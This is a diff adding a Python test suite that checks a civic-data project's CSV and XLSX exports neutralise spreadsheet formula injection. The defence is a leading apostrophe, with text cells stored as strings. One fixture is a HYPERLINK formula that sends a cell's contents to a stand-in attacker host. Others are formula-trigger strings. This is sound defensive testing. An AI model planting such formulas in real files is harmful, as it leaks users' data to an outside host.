@@ -1,0 +1,79 @@
+"""Open-data files are safe to open in a spreadsheet: text never becomes a formula, and the CSV
+neutralisation is undone by one documented rule (docs/public-site.md)."""
+
+import csv
+import io
+
+import openpyxl
+from hypothesis import given
+from hypothesis import strategies as st
+
+from civicspace.imports.xlsx import text_unescape
+from civicspace.publishing.exports import codebook_csv, rows_csv, rows_xlsx
+from civicspace.publishing.open_data import CODEBOOK, COLUMNS
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2, "details")'
+TEXT_COLUMNS = [c.name for c in CODEBOOK if c.kind == "string"]
+
+
+def row(**values):
+    base = dict.fromkeys(COLUMNS)
+    base.update(country_iso2="KZ", country="Kazakhstan", year=2025, level="dimension", demo=False)
+    base.update(values)
+    return base
+
+
+def read_csv(text):
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def undo(value: str) -> str:
+    """What docs/public-site.md tells a reader to do with a text column."""
+    return value[1:] if value.startswith("'") else value
+
+
+def test_formula_like_text_is_neutralised_in_the_csv():
+    [read] = read_csv(
+        rows_csv([row(name=HYPERLINK, label="+1", code="-x", principle="@SUM(A1)", source="\tx")])
+    )
+    assert read["name"] == "'" + HYPERLINK
+    assert (read["label"], read["code"], read["principle"]) == ("'+1", "'-x", "'@SUM(A1)")
+    assert read["source"] == "'\tx"
+
+
+def test_numbers_stay_numbers_in_the_csv_negative_ones_too():
+    [read] = read_csv(rows_csv([row(score=-1.5, weight=0.25, interval_low=-0.1, year=2025)]))
+    assert (read["score"], read["weight"], read["interval_low"]) == ("-1.5", "0.25", "-0.1")
+
+
+@given(st.text())
+def test_any_text_comes_back_from_the_csv_by_dropping_one_leading_apostrophe(text):
+    """Carriage returns included: a bare one would end the row early."""
+    [read] = read_csv(rows_csv([row(**dict.fromkeys(TEXT_COLUMNS, text))]))
+    for column in TEXT_COLUMNS:
+        assert undo(read[column]) == text
+        assert not read[column].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_the_codebook_csv_is_neutralised_too():
+    assert all(not r["meaning"].startswith("=") for r in read_csv(codebook_csv()))
+
+
+def test_every_text_cell_of_the_xlsx_is_a_string_cell():
+    data = rows_xlsx([row(name=HYPERLINK, label="=1+1", score=-1.5)])
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["scores"]
+    name, label, score = (
+        sheet.cell(row=2, column=COLUMNS.index(c) + 1) for c in ("name", "label", "score")
+    )
+    assert (name.value, name.data_type) == (HYPERLINK, "s")
+    assert (label.value, label.data_type) == ("=1+1", "s")
+    assert (score.value, score.data_type) == (-1.5, "n")
+
+
+@given(st.text())
+def test_any_text_comes_back_from_the_xlsx(text):
+    """As Excel shows it: control characters travel in Excel's own escape (`_x0001_`)."""
+    data = rows_xlsx([row(name=text)])
+    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["scores"]
+    value = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))[COLUMNS.index("name")]
+    assert text_unescape(str(value or "")) == text
